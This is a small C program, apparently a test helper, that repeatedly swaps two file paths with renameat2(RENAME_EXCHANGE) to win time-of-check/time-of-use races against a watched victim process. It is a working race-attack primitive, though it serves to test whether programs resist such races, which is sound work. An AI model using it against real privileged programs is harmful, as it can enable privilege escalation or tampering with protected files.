/* Race attacker: swap two paths with renameat2(RENAME_EXCHANGE) in a tight
 * loop until killed, until `seconds` pass, or until the process `watch`
 * (the victim) is gone. Swaps twice per round so a pause lands in the
 * original state.  swapper <a> <b> <seconds> <watch-pid>
 * Prints the number of exchanges when it stops. */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static void on_term(int sig) { (void)sig; stop = 1; }

int main(int argc, char **argv) {
  if (argc != 5) return 2;
  double limit = atof(argv[3]);
  pid_t watch = (pid_t)atoi(argv[4]);
  signal(SIGTERM, on_term);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  unsigned long n = 0;
  while (!stop) {
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
    if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) n++;
    if ((n & 1023) == 0) {
      clock_gettime(CLOCK_MONOTONIC, &t);
      if (t.tv_sec - t0.tv_sec + (t.tv_nsec - t0.tv_nsec) / 1e9 > limit) break;
      if (kill(watch, 0) != 0) break;
    }
  }
  printf("%lu\n", n);
  return 0;
}
